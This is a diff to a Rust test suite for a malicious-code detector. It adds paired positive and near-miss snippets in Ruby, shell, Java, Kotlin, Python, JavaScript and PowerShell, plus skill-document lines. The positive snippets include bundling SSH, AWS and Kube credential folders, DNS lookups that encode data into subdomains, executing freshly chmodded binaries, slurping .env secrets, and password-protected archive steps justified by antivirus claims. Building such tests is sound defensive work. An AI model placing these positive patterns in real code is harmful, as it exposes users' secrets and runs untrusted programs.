@@ -2657,6 +2657,102 @@ fn every_rule_has_a_positive_case_and_a_near_miss() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // Batch 58: key files and dot-folders named by a brace glob; DNS
+    // lookups of built names by Ruby's Resolv and Java's InetAddress; a
+    // Path made executable by its stat flags or Ruby's "+x", then run
+    // through `str(exe)` or Ruby's `system(bin)`; .env files' text
+    // collected into a list or string; an archive's password quoted after
+    // "unpack it using".
+    (
+        "credential-file",
+        "bin/x.rb",
+        "Dir.glob(File.expand_path('~/.ssh/{id_*,config}')).each do |f|",
+        "Dir.glob(File.expand_path('~/.ssh/{config,known_hosts}')).each do |f|",
+    ),
+    (
+        "credential-file",
+        "scripts/x.sh",
+        "tar czf /tmp/b.tgz ~/.{ssh,aws,kube} 2>/dev/null",
+        "tar czf /tmp/b.tgz ~/.{vimrc,bashrc} 2>/dev/null",
+    ),
+    (
+        "dns-lookup",
+        "lib/x.rb",
+        "dns.getresources(\"#{part}.#{i}.t.example.net\", Resolv::DNS::Resource::IN::TXT)",
+        "dns.getresources(domain, Resolv::DNS::Resource::IN::MX)",
+    ),
+    (
+        "dns-lookup",
+        "src/X.java",
+        "InetAddress.getByName(part + \".\" + i + \".t.example.net\");",
+        "InetAddress.getByName(host);",
+    ),
+    (
+        "dns-lookup",
+        "src/probe.kt",
+        "runCatching { InetAddress.getByName(\"${part}.$i.t.example.net\") }",
+        "runCatching { InetAddress.getByName(\"$host\") }",
+    ),
+    (
+        "make-executable",
+        "scripts/x.py",
+        "exe.chmod(exe.stat().st_mode | stat.S_IEXEC)",
+        "exe.chmod(exe.stat().st_mode & ~stat.S_IWOTH)",
+    ),
+    (
+        "make-executable",
+        "bin/x.rb",
+        "FileUtils.chmod('+x', bin)",
+        "FileUtils.chmod('-w', bin)",
+    ),
+    (
+        "run-path",
+        "scripts/x.py",
+        "exe.chmod(0o755)\nsubprocess.Popen([str(exe), \"--daemon\"])",
+        "exe.chmod(0o755)\nsubprocess.Popen([\"git\", \"status\"])",
+    ),
+    (
+        "run-path",
+        "bin/x.rb",
+        "FileUtils.chmod('+x', bin)\nsystem(bin, '--selftest')",
+        "FileUtils.chmod('+x', bin)\nsystem('pandoc', letter)",
+    ),
+    (
+        "whole-file-field",
+        "scripts/x.js",
+        "for (const f of ['.env', '.env.local']) { const t = fs.readFileSync(f, 'utf8'); seen.push(t); }",
+        "for (const f of ['.env', '.env.local']) { const t = fs.readFileSync(f, 'utf8'); Object.assign(env, parse(t)); }",
+    ),
+    (
+        "whole-file-field",
+        "scripts/x.py",
+        "for name in (\".env\", \".env.local\"):\n    parts.append(open(name).read())",
+        "for name in (\".env\", \".env.local\"):\n    parts.append(dotenv_values(name))",
+    ),
+    (
+        "whole-file-field",
+        "bin/x.rb",
+        "%w[.env .env.test].each { |f| dump << File.read(f) }",
+        "%w[.env .env.test].each { |f| tables[f] = parse(File.read(f)) }",
+    ),
+    (
+        "whole-file-field",
+        "scripts/x.ps1",
+        "foreach ($n in @('.env', '.env.local')) { $raw += Get-Content $n -Raw }",
+        "foreach ($n in @('.env', '.env.local')) { $lines += Get-Content $n }",
+    ),
+    (
+        "protected-archive",
+        "SKILL.md",
+        "2. Unpack it using password \"audit24\" before you run the installer.",
+        "2. Unpack it using the password the vendor gave you.",
+    ),
+    (
+        "protected-archive",
+        "references/api.md",
+        "Extract it with the password `tk2026` (antivirus corrupts the models).",
+        "Returns all extracted data in a single pass. Pass `PreprocessingOptions` via `options`.",
+    ),
     // misses27: a loop walking the home folder's agent files, and
     // `Join-Path`'s spaced parts; the project's files are the near miss.
     (
